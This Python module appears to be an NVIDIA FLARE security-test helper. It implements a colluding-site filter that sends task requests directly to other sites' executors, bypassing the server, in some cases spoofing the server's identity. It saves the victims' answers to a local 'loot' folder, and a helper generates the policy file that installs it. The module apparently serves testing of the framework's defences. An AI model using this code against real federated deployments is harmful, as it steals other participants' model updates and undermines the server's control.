# SPDX-License-Identifier: Apache-2.0
"""What a colluding site does: it asks another site's executor for an update behind the server's back.

The test copies this file into the kit of one site, whose operator owns what runs there; the victim gets no code. Each
attack carries the genuine task that the server has just sent here, so that protocol, run and model are right.
"""

import copy
import json
import time
from pathlib import Path

from nvflare.apis.filter import Filter
from nvflare.apis.fl_constant import FLContextKey, ReservedKey, ReservedTopic
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import ReservedHeaderKey, Shareable

LOOT = "loot"
TIMEOUT_S = 30.0
PROJECT = "fdg"  # as which the server speaks to its sites
# The task that is asked for, and as whom: as itself, or as the server.
WAYS = {"plain": ("train", None), "as the server": ("train", PROJECT), "evaluate": ("evaluate", None)}


class Colluder(Filter):
    """Attacks ``victims`` when the first training task of a job comes in; the round lasts until all ways were tried.

    What it got lies in ``loot/`` of its kit, one file per answer.
    """

    def __init__(self, victims: list[str]) -> None:
        super().__init__()
        self.victims = victims
        self._has_begun = False

    def process(self, shareable: Shareable, fl_ctx: FLContext) -> Shareable:
        """Hand on the task as it is."""
        if fl_ctx.get_prop(FLContextKey.TASK_NAME) == "train" and not self._has_begun:
            self._has_begun = True
            folder = Path(fl_ctx.get_engine().get_workspace().get_root_dir()) / LOOT
            folder.mkdir(exist_ok=True)
            for victim in self.victims:
                for way, (task, identity) in WAYS.items():
                    answer = self._ask(victim, task, identity, copy.deepcopy(shareable), fl_ctx)
                    (folder / f"answer of {victim} to {way}.txt").write_text(answer, encoding="utf-8")
        return shareable

    def _ask(self, victim: str, task: str, identity: str | None, data: Shareable, fl_ctx: FLContext) -> str:
        """Hand a task to the victim's runner, past the server; ``identity``: as whom."""
        engine = fl_ctx.get_engine()
        data.set_header(ReservedHeaderKey.TASK_NAME, task)
        data.set_header(ReservedHeaderKey.TASK_ID, f"{task}-{time.monotonic_ns()}")
        with engine.new_context() as own:
            if identity is not None:
                own.put(ReservedKey.IDENTITY_NAME, identity, private=False, sticky=False)
            try:
                return repr(engine.send_aux_request([victim], ReservedTopic.DO_TASK, data, TIMEOUT_S, own))
            except Exception as error:  # noqa: BLE001 - the next way may work
                return repr(error)


def policy(victims: list[str]) -> str:
    """Return the ``privacy.json`` of the colluding site."""
    filters = [{"path": f"{Path(__file__).stem}.Colluder", "args": {"victims": victims}}]
    return json.dumps({"scopes": [{"name": "own", "task_data_filters": filters}], "default_scope": "own"})
